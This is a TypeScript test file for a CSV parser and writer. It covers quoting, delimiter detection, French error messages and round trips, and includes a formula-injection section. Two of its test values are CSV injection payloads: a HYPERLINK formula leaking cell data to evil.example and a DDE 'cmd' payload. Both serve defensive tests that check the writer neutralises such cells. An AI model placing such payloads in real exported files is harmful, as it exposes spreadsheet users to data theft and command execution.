import { describe, expect, it } from "vitest";
import { CSV_BOM, CsvError, parseCsv, toCsv } from "./csv.js";

function csvError(fn: () => unknown): CsvError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(CsvError);
    return error as CsvError;
  }
  throw new Error("expected a CsvError");
}

describe("parseCsv", () => {
  it("reads a header and rows keyed by trimmed column names", () => {
    const { header, rows } = parseCsv(" nom , quartier \nBibliothèque,Fives\nPiscine,Wazemmes\n");
    expect(header).toEqual(["nom", "quartier"]);
    expect(rows).toEqual([
      { line: 2, values: { nom: "Bibliothèque", quartier: "Fives" } },
      { line: 3, values: { nom: "Piscine", quartier: "Wazemmes" } },
    ]);
  });

  it("keeps spaces inside values (only header names are trimmed)", () => {
    expect(parseCsv("a,b\r\n  x , y\r\n").rows[0]!.values).toEqual({ a: "  x ", b: " y" });
  });

  it("handles CRLF, LF, a lone CR and a missing final line break", () => {
    for (const text of ["a,b\r\n1,2\r\n3,4", "a,b\n1,2\n3,4\n", "a,b\r1,2\r3,4\r"]) {
      const { rows } = parseCsv(text);
      expect(rows.map((r) => [r.line, r.values.a, r.values.b])).toEqual([
        [2, "1", "2"],
        [3, "3", "4"],
      ]);
    }
  });

  it("strips a UTF-8 BOM so the first column name is clean", () => {
    const { header, rows } = parseCsv(`${CSV_BOM}code;libellé\r\n59350;Lille\r\n`);
    expect(header).toEqual(["code", "libellé"]);
    expect(rows[0]!.values.code).toBe("59350");
  });

  it("reads quoted fields with delimiters, doubled quotes and line breaks", () => {
    const text = 'titre,description\r\n"Marché, place du Concert","Il a dit ""bonjour""\r\net il est parti"\r\n';
    expect(parseCsv(text).rows[0]!.values).toEqual({
      titre: "Marché, place du Concert",
      description: 'Il a dit "bonjour"\r\net il est parti',
    });
  });

  it("reads empty fields, quoted or not, and a trailing empty field", () => {
    expect(parseCsv('a,b,c\n,"",\n').rows[0]!.values).toEqual({ a: "", b: "", c: "" });
  });

  it("keeps a quote inside an unquoted field as a literal character", () => {
    expect(parseCsv('article,taille\nécran,12" pouces\n').rows[0]!.values.taille).toBe('12" pouces');
  });

  it("gives the physical line where each row starts, counting line breaks inside quotes", () => {
    const text = ["id,texte", '1,"première', "suite", 'fin"', "2,simple", '3,"a\r\nb"', "4,dernier"].join("\n");
    expect(parseCsv(text).rows.map((r) => [r.values.id, r.line])).toEqual([
      ["1", 2],
      ["2", 5],
      ["3", 6],
      ["4", 8],
    ]);
  });

  it("skips empty lines but keeps counting them", () => {
    const { rows } = parseCsv("a,b\n\n1,2\r\n\r\n3,4\n\n");
    expect(rows.map((r) => r.line)).toEqual([3, 5]);
  });

  it("counts line breaks inside a quoted header", () => {
    const { header, rows } = parseCsv('"nom\ncomplet",age\nAda,36\n');
    expect(header).toEqual(["nom\ncomplet", "age"]);
    expect(rows[0]!.line).toBe(3);
  });

  describe("delimiter", () => {
    it("detects the semicolon of French Excel exports, with decimal commas in values", () => {
      const { header, rows } = parseCsv("ligne;montant;libellé\r\n1;-12,5;Subvention, part État\r\n");
      expect(header).toEqual(["ligne", "montant", "libellé"]);
      expect(rows[0]!.values).toEqual({ ligne: "1", montant: "-12,5", libellé: "Subvention, part État" });
    });

    it("detects the comma, and ignores delimiters inside quoted header names", () => {
      expect(parseCsv('"a;b;c",d\n1,2\n').header).toEqual(["a;b;c", "d"]);
      expect(parseCsv('"a,b,c";d\n1;2\n').header).toEqual(["a,b,c", "d"]);
    });

    it("looks at the header line only", () => {
      expect(parseCsv("a;b\n1,5;2,5\n").rows[0]!.values).toEqual({ a: "1,5", b: "2,5" });
    });

    it("defaults to the comma for a single column", () => {
      expect(parseCsv("nom\nA;B\n").rows[0]!.values).toEqual({ nom: "A;B" });
    });

    it("can be forced", () => {
      expect(parseCsv("a;b,c\n1;2,3\n", { delimiter: "," }).header).toEqual(["a;b", "c"]);
      expect(parseCsv("a,b;c\n1,2;3\n", { delimiter: ";" }).header).toEqual(["a,b", "c"]);
    });
  });

  it("returns an empty result for an empty file", () => {
    expect(parseCsv("")).toEqual({ header: [], rows: [] });
    expect(parseCsv(CSV_BOM)).toEqual({ header: [], rows: [] });
  });

  it("treats column names as data, even __proto__", () => {
    const { rows } = parseCsv("__proto__,constructor\nx,y\n");
    // biome-ignore lint/complexity/useLiteralKeys lint/suspicious/noProto: the test reads a column named "__proto__" as an own key
    expect(rows[0]!.values["__proto__"]).toBe("x");
    // biome-ignore lint/complexity/useLiteralKeys: the bracket form matches the line above, a column name read as data
    expect(rows[0]!.values["constructor"]).toBe("y");
    expect(Object.keys(rows[0]!.values)).toEqual(["__proto__", "constructor"]);
  });

  describe("errors", () => {
    it("reports an unterminated quote at the line where it opens", () => {
      const error = csvError(() => parseCsv('a,b\n1,2\n3,"pas fermé\n4,5\n6,7\n'));
      expect(error.line).toBe(3);
      expect(error.message).toBe("Ligne 3 : un guillemet ouvert n’est jamais refermé. Vérifiez les guillemets de cette ligne.");
    });

    it("reports a row with too few or too many fields at the line where it starts", () => {
      const tooFew = csvError(() => parseCsv('a,b,c\n1,"x\ny",3\n4,5\n'));
      expect(tooFew.line).toBe(4);
      expect(tooFew.message).toMatch(/^Ligne 4 : 2 valeur\(s\) trouvée\(s\) alors que l’en-tête compte 3 colonne\(s\)\./);

      const tooMany = csvError(() => parseCsv("a;b\n1;2\n1;2;3\n"));
      expect(tooMany.line).toBe(3);
      expect(tooMany.message).toMatch(/^Ligne 3 : 3 valeur/);
    });

    it("reports text after a closing quote", () => {
      const error = csvError(() => parseCsv('a,b\n1,"x"y\n'));
      expect(error.line).toBe(2);
      expect(error.message).toContain("doit être doublé");
    });

    it("reports a duplicated column name on line 1", () => {
      const error = csvError(() => parseCsv("nom, nom\n1,2\n"));
      expect(error.line).toBe(1);
      expect(error.message).toBe("Ligne 1 : la colonne « nom » apparaît deux fois dans l’en-tête.");
    });

    it("is an Error with a stable name", () => {
      const error = csvError(() => parseCsv('"'));
      expect(error).toBeInstanceOf(Error);
      expect(error.name).toBe("CsvError");
      expect(error.line).toBe(1);
    });
  });
});

describe("toCsv", () => {
  it("writes RFC 4180 text with CRLF after every record and no BOM", () => {
    expect(toCsv(["nom", "quartier"], [["Piscine", "Fives"]])).toBe("nom,quartier\r\nPiscine,Fives\r\n");
    expect(CSV_BOM).toBe("\uFEFF");
  });

  it("quotes only when needed and doubles quotes", () => {
    const out = toCsv(["v"], [["simple"], ["a,b"], ["a;b"], ['dit "oui"'], ["deux\nlignes"], ["cr\rseul"], [" espace "]]);
    expect(out.split("\r\n")).toEqual(["v", "simple", '"a,b"', '"a;b"', '"dit ""oui"""', '"deux\nlignes"', '"cr\rseul"', '" espace "', ""]);
  });

  it("writes numbers, booleans, null and undefined", () => {
    expect(toCsv(["a", "b", "c", "d", "e"], [[1.5, -3, true, null, undefined]])).toBe("a,b,c,d,e\r\n1.5,-3,true,,\r\n");
  });

  it("accepts rows as objects keyed by column name", () => {
    expect(toCsv(["a", "b"], [{ b: "2", a: "1", ignored: "x" }, { a: "seul" }])).toBe("a,b\r\n1,2\r\nseul,\r\n");
  });

  it("can write semicolons for French Excel, leaving decimal commas bare in rows", () => {
    expect(toCsv(["libellé", "montant, en €"], [["Fête; quartier", "-12,5"]], { delimiter: ";" })).toBe(
      'libellé;"montant, en €"\r\n"Fête; quartier";-12,5\r\n',
    );
  });

  it("quotes both delimiters in the header so detection reads it back right", () => {
    const text = toCsv(["a, b, c", "d"], [["1", "2"]], { delimiter: ";" });
    expect(parseCsv(text).header).toEqual(["a, b, c", "d"]);
  });

  it("refuses an array row of the wrong length (a programming error)", () => {
    expect(() => toCsv(["a", "b"], [["1"]])).toThrow(RangeError);
  });

  describe("formula injection", () => {
    it.each([
      ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ["@SUM(1+1)", "'@SUM(1+1)"],
      ["-2+3", "'-2+3"],
      ["\t=1", "'\t=1"],
      ["\r=1", `"'\r=1"`],
      ["=1", "'=1"],
      ["-e5", "'-e5"],
      ["+33 6 12 34 56 78", "'+33 6 12 34 56 78"],
      ["-", "'-"],
    ])("prefixes %j with a single quote", (value, cell) => {
      expect(toCsv(["v"], [[value]])).toBe(`v\r\n${cell}\r\n`);
    });

    it.each(["-12.5", "-3", "+3", "-12,5", "-0.5", "-.5", "-1e5", "-1 234,50", "-1\u202F234,50", "42", "1.5"])(
      "leaves the plain number %j untouched",
      (value) => {
        expect(parseCsv(toCsv(["v"], [[value]]), { delimiter: "," }).rows[0]!.values.v).toBe(value);
        expect(toCsv(["v"], [[value]], { delimiter: ";" })).toBe(`v\r\n${value}\r\n`);
      },
    );

    it("leaves the number type untouched and cells that merely contain those characters", () => {
      expect(toCsv(["a", "b", "c"], [[-12.5, "a=b", "contact@ville.fr"]])).toBe("a,b,c\r\n-12.5,a=b,contact@ville.fr\r\n");
    });

    it("protects header cells too", () => {
      expect(toCsv(["=cmd"], [])).toBe("'=cmd\r\n");
    });
  });
});

describe("round trip", () => {
  const tricky = [
    "Élodie Lefèvre",
    "L’œuvre « Fives » à 12 €",
    'Il a dit "non", puis "oui"',
    "ligne 1\nligne 2\r\nligne 3",
    "🏳️‍🌈 fête 🎉",
    "a;b,c",
    "",
    "  espaces  ",
    '"',
    '""',
    "-12.5",
    "naïve café ßtraße 日本",
  ];

  it.each(["," as const, ";" as const])("preserves tricky values with %j", (delimiter) => {
    const rows = tricky.map((value, i) => [String(i), value]);
    const text = CSV_BOM + toCsv(["n°", "valeur"], rows, { delimiter });
    const parsed = parseCsv(text);
    expect(parsed.header).toEqual(["n°", "valeur"]);
    expect(parsed.rows.map((r) => [r.values["n°"], r.values.valeur])).toEqual(rows);
  });

  it("keeps a single empty column as a row", () => {
    const parsed = parseCsv(toCsv(["v"], [[""], ["x"], [""]]));
    expect(parsed.rows.map((r) => [r.line, r.values.v])).toEqual([
      [2, ""],
      [3, "x"],
      [4, ""],
    ]);
  });

  it("reports the real line numbers of exported multi-line values", () => {
    const text = toCsv(
      ["id", "texte"],
      [
        ["1", "a\r\nb\r\nc"],
        ["2", "d"],
      ],
    );
    expect(parseCsv(text).rows.map((r) => r.line)).toEqual([2, 5]);
  });

  it("reads back an injection-protected cell with its visible quote", () => {
    expect(parseCsv(toCsv(["v"], [["=1+1"]])).rows[0]!.values.v).toBe("'=1+1");
  });
});
